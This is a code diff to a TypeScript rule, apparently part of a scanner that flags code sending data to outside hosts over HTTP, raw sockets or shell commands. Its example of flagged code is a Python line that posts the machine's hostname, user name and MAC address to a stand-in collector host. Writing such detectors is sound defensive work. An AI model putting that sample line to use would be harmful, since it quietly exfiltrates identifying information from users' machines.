@@ -1,6 +1,6 @@
 import { all, any, anyArgument, argument, type Condition, call, from, matches, receiver } from "../match.ts";
 import { defineRule } from "../rule.ts";
-import { NAMED_HOST, NUMBERED_HOST } from "../vocabulary/hosts.ts";
+import { ELSEWHERE } from "../vocabulary/hosts.ts";
 import { HTTP_CONNECTIONS, HTTP_REQUESTS, RAW_SENDS } from "../vocabulary/network-calls.ts";
 import { BARE_HOST } from "../vocabulary/service-keys.ts";
 import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
@@ -25,17 +25,14 @@ export default defineRule({
   match: [
     call({
       of: HTTP_REQUESTS,
-      where: all(
-        any(argument([0, "url"], matches(NAMED_HOST, NUMBERED_HOST)), argument(1, matches(NAMED_HOST, NUMBERED_HOST))),
-        WHO_AND_WHERE,
-      ),
+      where: all(any(argument([0, "url"], matches(...ELSEWHERE)), argument(1, matches(...ELSEWHERE))), WHO_AND_WHERE),
     }),
     call({
       of: HTTP_CONNECTIONS,
-      where: all(any(receiver(matches(NAMED_HOST, NUMBERED_HOST)), receiver(matches(BARE_HOST))), WHO_AND_WHERE),
+      where: all(any(receiver(matches(...ELSEWHERE)), receiver(matches(BARE_HOST))), WHO_AND_WHERE),
     }),
     call({ of: RAW_SENDS, where: WHO_AND_WHERE }),
-    call({ of: SHELL_SENDS, where: all(anyArgument(matches(NAMED_HOST, NUMBERED_HOST)), WHO_AND_WHERE) }),
+    call({ of: SHELL_SENDS, where: all(anyArgument(matches(...ELSEWHERE)), WHO_AND_WHERE) }),
   ],
   bad: [
     'import getpass, socket, uuid, requests\nrequests.post("https://collector.example", json={"h": socket.gethostname(), "u": getpass.getuser(), "m": uuid.getnode()})',
